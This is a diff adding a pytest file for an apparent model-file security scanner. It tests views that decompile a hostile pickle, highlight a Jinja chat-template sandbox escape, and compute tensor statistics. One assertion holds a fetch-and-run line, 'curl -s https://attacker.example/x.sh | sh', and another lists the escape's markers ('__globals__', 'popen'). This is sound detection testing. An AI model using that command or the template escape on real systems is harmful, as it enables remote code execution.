@@ -1,0 +1,172 @@
+"""Detail views: decompiled pickle, template marks, tensor statistics (worker + histogram)."""
+
+import math
+
+import numpy as np
+import pytest
+import torch
+from safetensors.torch import save_file
+
+from airlock.core.findings import Severity
+from airlock.core.scan import scan_bytes, scan_file
+from airlock.core.tree import FILE, TEMPLATE, TENSOR, Node
+from airlock.gui.demo import HOSTILE_TEMPLATE, hostile_pickle_bytes
+from airlock.gui.details.decompiled import DecompiledView, decompile
+from airlock.gui.details.pane import TAB_DECOMPILED, TAB_TENSOR, DetailsPane
+from airlock.gui.details.template import TemplateView
+from airlock.gui.details.tensor_stats import TensorStatsView, compute_stats, normalise_dtype, tensor_ref
+
+
+def tensor_nodes(result):
+    return {n.attrs.get("name", n.label): n for n in result.root.walk(expand_lazy=True) if n.kind == TENSOR}
+
+
+def test_fickling_decompiles_the_hostile_pickle_without_running_it():
+    text = decompile(hostile_pickle_bytes())
+    assert "from os import system" in text
+    assert "system('curl -s https://attacker.example/x.sh | sh')" in text
+
+
+def test_decompiled_view_marks_the_dangerous_call(qtbot):
+    view = DecompiledView()
+    qtbot.addWidget(view)
+    with qtbot.waitSignal(view.text.textChanged, timeout=10_000, raising=True):
+        view.show_pickle(hostile_pickle_bytes(), names=["system"])
+    qtbot.waitUntil(lambda: "system(" in view.text.toPlainText(), timeout=10_000)
+    assert len(view.text.marks) == 2  # the import and the call
+    assert "Marked: system" in view.status.text()
+
+
+def test_decompiled_view_says_when_fickling_fails(qtbot):
+    view = DecompiledView()
+    qtbot.addWidget(view)
+    view.show_pickle(b"\x80\x05\xff\xff")  # not a pickle fickling can read
+    qtbot.waitUntil(lambda: "could not decompile" in view.status.text(), timeout=10_000)
+
+
+def test_pane_shows_the_decompiled_pickle_of_a_finding(qtbot):
+    result = scan_bytes(hostile_pickle_bytes(), "hostile.pkl")
+    pane = DetailsPane()
+    qtbot.addWidget(pane)
+    pane.set_source(result.source)
+    finding = max(result.findings, key=lambda f: f.severity)
+    pane.show_node(finding.node, finding)
+    assert pane.tabs.currentIndex() == TAB_DECOMPILED
+    assert pane.hex.marked == (finding.offset, 1)
+    qtbot.waitUntil(lambda: "system(" in pane.decompiled.text.toPlainText(), timeout=10_000)
+    pane.set_source(None)
+
+
+def test_template_view_marks_the_sandbox_escape(qtbot):
+    node = Node(TEMPLATE, "tokenizer.chat_template", attrs={"text": HOSTILE_TEMPLATE + "\u202e"})
+    view = TemplateView()
+    qtbot.addWidget(view)
+    view.show_node(node)
+    shown = view.text.toPlainText()
+    assert "\u202e" not in shown and "\\u202e" in shown
+    marked = [shown[s:e] for s, e in view.text.marks]
+    assert "__init__" in marked and "__globals__" in marked and "popen" in marked
+    assert "{{ message['content'] }}" in shown  # the benign part is shown as is, unmarked
+
+
+def test_template_view_prefers_the_spans_core_recorded(qtbot):
+    text = "{{ a }}{{ x.__class__ }}"
+    node = Node(TEMPLATE, "t", attrs={"text": text, "marks": [(7, 24)]})
+    view = TemplateView()
+    qtbot.addWidget(view)
+    view.show_node(node)
+    assert view.text.marks == [(7, 24)]
+
+
+@pytest.mark.parametrize(("text", "expected"), [
+    ("F32", ("F32", False)), ("BF16", ("BF16", False)), ("torch.bfloat16", ("BF16", False)),
+    ("<f4", ("F32", False)), (">i2", ("I16", True)), ("|b1", ("BOOL", False)), ("float16", ("F16", False)),
+    ("Q4_K", ("Q4_K", False)), ("|O", None), ("<U10", None), ("C64", None),
+])
+def test_dtype_spellings(text, expected):
+    assert normalise_dtype(text) == expected
+
+
+def test_stats_match_numpy_for_every_simple_dtype(tmp_path):
+    gen = torch.Generator().manual_seed(0)
+    base = torch.randn(40, 50, generator=gen)
+    base[0, :7] = 0
+    tensors = {"f32": base, "f16": base.half(), "bf16": base.bfloat16(), "i8": (base * 20).to(torch.int8),
+               "f8": base.to(torch.float8_e4m3fn), "f8b": base.to(torch.float8_e5m2)}
+    path = tmp_path / "t.safetensors"
+    save_file(tensors, str(path))
+    result = scan_file(path)
+    try:
+        nodes = tensor_nodes(result)
+        for name, tensor in tensors.items():
+            ref = tensor_ref(nodes[name])
+            assert not isinstance(ref, str), ref
+            stats = compute_stats(result.source.read, result.source.size, ref)
+            expected = tensor.double()
+            assert stats["elements"] == stats["read"] == expected.numel()
+            assert not stats["sampled"]
+            assert stats["min"] == pytest.approx(expected.min().item())
+            assert stats["max"] == pytest.approx(expected.max().item())
+            assert stats["mean"] == pytest.approx(expected.mean().item(), rel=1e-9, abs=1e-12)
+            assert stats["std"] == pytest.approx(expected.std(unbiased=False).item(), rel=1e-9)
+            assert stats["zeros"] == int((expected == 0).sum())
+            assert sum(stats["counts"]) == expected.numel()
+    finally:
+        result.close()
+
+
+def test_nan_inf_counts_and_sampling_above_the_cap(tmp_path):
+    values = np.linspace(-1, 1, 100_000, dtype=np.float32)
+    values[10] = np.nan
+    values[20] = np.inf
+    values[30] = -np.inf
+    path = tmp_path / "t.safetensors"
+    save_file({"v": torch.from_numpy(values)}, str(path))
+    result = scan_file(path)
+    try:
+        ref = tensor_ref(tensor_nodes(result)["v"])
+        full = compute_stats(result.source.read, result.source.size, ref)
+        assert (full["nan"], full["posinf"], full["neginf"]) == (1, 1, 1)
+        assert math.isfinite(full["mean"])
+        sampled = compute_stats(result.source.read, result.source.size, ref, cap=6_400)
+        assert sampled["sampled"] and sampled["read"] == 6_400
+        assert sampled["min"] == pytest.approx(-1.0) and sampled["max"] == pytest.approx(1.0)  # runs span the ends
+    finally:
+        result.close()
+
+
+def test_tensor_without_a_data_offset_is_disabled_with_a_reason():
+    node = Node(TENSOR, "w", attrs={"dtype": "F32", "shape": (2, 2)})
+    assert "data_offset" in tensor_ref(node)
+    assert "dtype" in tensor_ref(Node(TENSOR, "w"))
+
+
+def test_histogram_worker_fills_the_view(qtbot, tmp_path):
+    path = tmp_path / "t.safetensors"
+    save_file({"layer.weight": torch.randn(300, 200)}, str(path))
+    result = scan_file(path)
+    pane = DetailsPane()
+    qtbot.addWidget(pane)
+    pane.set_source(result.source)
+    node = tensor_nodes(result)["layer.weight"]
+    pane.show_node(node)
+    assert pane.tabs.isTabVisible(TAB_TENSOR)
+    view: TensorStatsView = pane.tensor
+    with qtbot.waitSignal(view.worker.signals.returned, timeout=20_000):
+        pass
+    qtbot.waitUntil(lambda: view.stats is not None, timeout=20_000)
+    assert view.stats["elements"] == 60_000
+    assert "min " in view.summary.text() and "NaN 0" in view.summary.text()
+    assert view._canvas is not None and view._canvas.isVisibleTo(view)
+    assert len(view._figure.axes[0].patches) == 64  # the histogram's bars
+    pane.set_source(None)
+    result.close()
+
+
+def test_severity_threshold_for_names_to_mark():
+    from airlock.gui.details.decompiled import risky_names
+
+    result = scan_bytes(hostile_pickle_bytes(), "h.pkl")
+    pickle_node = result.root.child_at(0)
+    assert result.root.kind == FILE and pickle_node.severity == Severity.CRITICAL
+    assert risky_names(pickle_node) == ["system"]
